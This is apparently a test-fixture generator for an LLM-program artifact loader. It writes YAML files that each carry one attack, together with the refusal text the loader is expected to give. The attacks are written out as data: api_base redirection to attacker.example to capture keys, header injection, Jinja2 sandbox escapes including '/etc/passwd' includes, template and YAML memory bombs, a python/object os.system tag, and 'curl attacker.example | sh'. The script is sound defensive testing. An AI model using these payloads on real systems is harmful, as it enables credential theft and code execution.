"""Write the hostile-artifact corpus: one YAML file per attack, and index.json.

Each file is a whole artifact whose content hash is valid (anyone can recompute an unkeyed
sha256), so the attack itself, not the hash, is what must be refused. index.json records, per
file, what it tries and the text its refusal must contain. Run from the repository root after a
change to the artifact format: ``python tests/hostile/make_corpus.py``.
"""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import yaml

from promptc import Predict
from promptc._artifact.loader import Dumper
from promptc._artifact.provenance import Provenance
from promptc.artifact import artifact_from_program, dump_artifact

HERE = Path(__file__).resolve().parent
Data = dict[str, Any]


def _base_text() -> str:
    program = Predict("review -> label: Literal['positive', 'negative']")
    art = artifact_from_program(
        program,
        name="sentiment",
        lm_settings={"model": "openai/gpt-4o-mini", "temperature": 0.0, "max_tokens": 32},
        provenance=Provenance(seed=0),
    )
    return dump_artifact(art)


def _text(data: Data) -> str:
    # The canonical JSON Artifact.compute_hash covers, also for data the schema would refuse.
    behaviour = {k: data[k] for k in ("schema_version", "program", "predictors")}
    blob = json.dumps(behaviour, sort_keys=True, ensure_ascii=False)
    data["content_hash"] = "sha256:" + hashlib.sha256(blob.encode("utf-8")).hexdigest()
    options = {"sort_keys": False, "allow_unicode": True, "width": 100}
    return yaml.dump(data, Dumper=Dumper, default_flow_style=False, **options)


def lm(**changes: Any) -> Callable[[Data], None]:
    def edit(data: Data) -> None:
        data["predictors"][0]["lm"].update(changes)

    return edit


def params(**values: Any) -> Callable[[Data], None]:
    def edit(data: Data) -> None:
        data["predictors"][0]["lm"]["params"] = values

    return edit


def provenance(**values: Any) -> Callable[[Data], None]:
    def edit(data: Data) -> None:
        data["provenance"].update(values)

    return edit


def template(part: str, source: str) -> Callable[[Data], None]:
    def edit(data: Data) -> None:
        data["predictors"][0]["adapter"]["templates"][part] = source

    return edit


NESTED_FOR = (
    "{% for a in instruction %}{% for b in instruction %}{% for c in instruction %}"
    "{% for d in instruction %}x{% endfor %}{% endfor %}{% endfor %}{% endfor %}"
)
EVIL = "https://attacker.example/v1"

# file stem -> (what it tries, how the base artifact is edited, text the refusal contains)
ATTACKS: dict[str, tuple[str, Callable[[Data], None], str]] = {
    # LM settings: nothing that routes a request or carries a credential.
    "lm-params-api-base": (
        "send the user's API key to another host",
        params(api_base=EVIL),
        "LM parameter 'api_base' is not allowed",
    ),
    "lm-params-base-url": ("redirect requests", params(base_url=EVIL), "'base_url' is not allowed"),
    "lm-params-api-key": ("plant a key", params(api_key="sk-planted"), "'api_key' is not allowed"),
    "lm-params-headers": (
        "add request headers",
        params(headers={"Authorization": "Bearer x"}),
        "'headers' is not allowed",
    ),
    "lm-params-extra-headers": (
        "add request headers",
        params(extra_headers={"X-Forward": EVIL}),
        "'extra_headers' is not allowed",
    ),
    "lm-params-organization": (
        "bill another organization",
        params(organization="org-evil"),
        "'organization' is not allowed",
    ),
    "lm-params-unknown-key": (
        "switch the provider",
        params(custom_llm_provider="openai"),
        "'custom_llm_provider' is not allowed",
    ),
    "lm-params-huge-list": (
        "a huge stop list",
        params(stop=["x"] * 1000),
        "'stop': the value is not short plain data",
    ),
    "lm-params-nested-value": (
        "smuggle nested data",
        params(response_format={"type": "json_schema", "json_schema": {"url": EVIL}}),
        "'response_format': the value is not short plain data",
    ),
    "lm-model-url": ("a model string that is a URL", lm(model=EVIL + "/gpt"), "contains '//'"),
    "lm-model-provider-url": (
        "a URL after the provider prefix",
        lm(model="openai/" + EVIL),
        "contains '//'",
    ),
    "lm-model-path-traversal": (
        "walk up a deployment path",
        lm(model="azure/../../admin"),
        "contains '//' or '..'",
    ),
    "lm-model-whitespace": (
        "a model string with spaces",
        lm(model="gpt-4o mini\tx"),
        "has characters beyond",
    ),
    "lm-model-control-character": (
        "a model string with a newline",
        lm(model="gpt-4o\nHost: attacker.example"),
        "has characters beyond",
    ),
    "lm-model-too-long": ("a 5,000-character model", lm(model="m" * 5000), "at most 200"),
    # Templates: only promptc's template language, checked on the parsed AST.
    "template-percent-format-bomb": (
        "~900 MB by constant folding at compile time",
        template("system", "{{ '%0900000000d' % 1 }}"),
        "the '%' operator",
    ),
    "template-set-doubling": (
        "double a string 40 times",
        template("system", "{% set a = instruction %}" + "{% set a = a ~ a %}" * 40 + "{{ a }}"),
        "{% set %}",
    ),
    "template-center-huge": (
        "pad to a billion characters",
        template("system", "{{ instruction|center(999999999) }}"),
        "the filter 'center'",
    ),
    "template-indent-huge": (
        "indent by a billion",
        template("system", "{{ instruction|indent(999999999) }}"),
        "the filter 'indent'",
    ),
    "template-replace-huge": (
        "replace every gap with the instruction",
        template("system", "{{ instruction|replace('', instruction) }}"),
        "the filter 'replace'",
    ),
    "template-wordwrap-huge": (
        "wrap with a huge break string",
        template("system", "{{ instruction|wordwrap(1, true, instruction) }}"),
        "the filter 'wordwrap'",
    ),
    "template-nested-for-instruction": (
        "four nested loops over the instruction's characters",
        template("system", NESTED_FOR),
        "a for loop over the variable 'instruction'",
    ),
    "template-nested-for-fields": (
        "nested loops over documented lists",
        template(
            "system",
            "{% for a in output_fields %}{% for b in output_fields %}x{% endfor %}{% endfor %}",
        ),
        "a for loop inside another for loop",
    ),
    "template-lipsum-string": (
        "read a Jinja2 global",
        template("system", "{{ lipsum|string }}"),
        "the filter 'string'",
    ),
    "template-lipsum": ("read a Jinja2 global", template("system", "{{ lipsum }}"), "'lipsum'"),
    "template-range-huge": (
        "build a billion-element range",
        template("system", "{{ range(10**9) }}"),
        "a call",
    ),
    "template-cycler": ("read a Jinja2 global", template("system", "{{ cycler }}"), "'cycler'"),
    "template-joiner": ("read a Jinja2 global", template("system", "{{ joiner }}"), "'joiner'"),
    "template-namespace": (
        "mutable state through namespace()",
        template("system", "{{ namespace(x=instruction) }}"),
        "a call",
    ),
    "template-dict-global": ("call a Jinja2 global", template("system", "{{ dict() }}"), "a call"),
    "template-macro-recursion": (
        "recurse without end",
        template("system", "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}"),
        "{% macro %}",
    ),
    "template-getitem": (
        "index into a value",
        template("system", "{{ instruction[0] }}"),
        "a subscript or slice",
    ),
    "template-slicing": (
        "slice a value",
        template("system", "{{ instruction[::-1] }}"),
        "a subscript or slice",
    ),
    "template-filter-with-arguments": (
        "an allowed filter given arguments",
        template("system", "{{ instruction|trim('x') }}"),
        "the filter 'trim' with arguments",
    ),
    "template-truncate-filter": (
        "a filter outside the list",
        template("system", "{{ instruction|truncate(5) }}"),
        "the filter 'truncate'",
    ),
    "template-private-attribute": (
        "reach Python internals",
        template("system", "{{ instruction.__class__ }}"),
        "'instruction.__class__'",
    ),
    "template-attr-filter": (
        "reach internals through attr",
        template("system", "{{ instruction|attr('_' ~ '_class__') }}"),
        "the filter 'attr'",
    ),
    "template-format-method": (
        "str.format into internals",
        template("system", "{{ '{0.__class__}'.format(instruction) }}"),
        "a call",
    ),
    "template-loop-cycle": (
        "call a method of the loop object",
        template("user", "{% for f in fields %}{{ loop.cycle('a', 'b') }}{% endfor %}"),
        "a call",
    ),
    "template-include": (
        "read a file",
        template("system", "{% include '/etc/passwd' %}"),
        "{% include %}",
    ),
    "template-import": (
        "import a template",
        template("system", "{% import 'x' as x %}"),
        "{% import %}",
    ),
    "template-concat": (
        "build strings with ~",
        template("system", "{{ instruction ~ instruction }}"),
        "'~' concatenation",
    ),
    "template-power": ("exponentiation", template("system", "{{ 9 ** 9 ** 9 }}"), "'**'"),
    "template-unknown-variable": (
        "read a name the render context does not provide",
        template("user", "{{ secret }}"),
        "the variable 'secret'",
    ),
    "template-too-large": (
        "a template too large to be a prompt",
        template("system", "{{ instruction }}" + "x" * 70_000),
        "the limit is 65536",
    ),
    "template-syntax-error": (
        "a broken template",
        template("system", "{% for x in %}"),
        "syntax error",
    ),
    # Provenance: typed records, unknown keys refused, sizes bounded.
    "provenance-unknown-key": (
        "carry data no reader expects",
        provenance(command="curl attacker.example | sh"),
        "provenance.command: Extra inputs are not permitted",
    ),
    "provenance-trial-unknown-key": (
        "hide a field inside a trial record",
        provenance(trials=[{"id": 0, "candidate": "baseline", "payload": "x"}]),
        "provenance.trials.0.payload: Extra inputs are not permitted",
    ),
    "provenance-long-name": (
        "a 5,000-character optimizer name",
        provenance(optimizer={"name": "o" * 5000}),
        "provenance.optimizer.name: String should have at most 1000 characters",
    ),
    "provenance-huge-config": (
        "an optimizer config of 5,000 keys",
        provenance(optimizer={"name": "random", "config": {f"k{i}": i for i in range(5000)}}),
        "provenance.optimizer.config: Dictionary should have at most 1000 items",
    ),
}

# YAML-level attacks: edits of the dumped text (file stem -> what, (old, new) or a builder, text).
YAML_ATTACKS: dict[str, tuple[str, Callable[[str], str], str]] = {
    "yaml-duplicate-key": (
        "a reviewer reads the first instruction, the loader would keep the last",
        lambda text: text.replace(
            "    instruction: ", "    instruction: Be helpful.\n    instruction: ", 1
        ),
        "duplicate key 'instruction'",
    ),
    "yaml-duplicate-lm-key": (
        "a second model line below the reviewed one",
        lambda text: text.replace(
            "      max_tokens: 32\n", "      max_tokens: 32\n      model: evil/model\n", 1
        ),
        "duplicate key 'model'",
    ),
    "yaml-huge-integer": (
        "a 5,000-digit integer (a bare ValueError from int())",
        lambda text: text.replace("seed: 0", "seed: " + "9" * 5000, 1),
        "5000-character integer",
    ),
    "yaml-merge-key": (
        "merge hidden settings into the LM block",
        lambda text: text.replace(
            "      max_tokens: 32\n", "      max_tokens: 32\n      <<: {api_base: x}\n", 1
        ),
        "merge key",
    ),
    "yaml-alias-bomb": (
        "billion laughs",
        lambda text: text.replace(
            "provenance:\n", "provenance:\n  a: &a [x, x, x, x]\n  b: [*a, *a, *a, *a]\n", 1
        ),
        "alias",
    ),
    "yaml-python-tag": (
        "run code while loading",
        lambda text: text.replace("seed: 0", "seed: !!python/object/apply:os.system ['true']", 1),
        "not valid YAML",
    ),
}


def main() -> None:
    index: dict[str, dict[str, str]] = {}
    for stem, (tries, edit, expected) in ATTACKS.items():
        data = yaml.safe_load(_base_text())
        edit(data)
        (HERE / f"{stem}.yaml").write_text(_text(data), "utf-8")
        index[f"{stem}.yaml"] = {"tries": tries, "refused_with": expected}
    base = _base_text()
    for stem, (tries, change, expected) in YAML_ATTACKS.items():
        text = change(base)
        assert text != base, stem
        (HERE / f"{stem}.yaml").write_text(text, "utf-8")
        index[f"{stem}.yaml"] = {"tries": tries, "refused_with": expected}
    (HERE / "index.json").write_text(json.dumps(index, indent=2, sort_keys=True) + "\n", "utf-8")


if __name__ == "__main__":
    main()
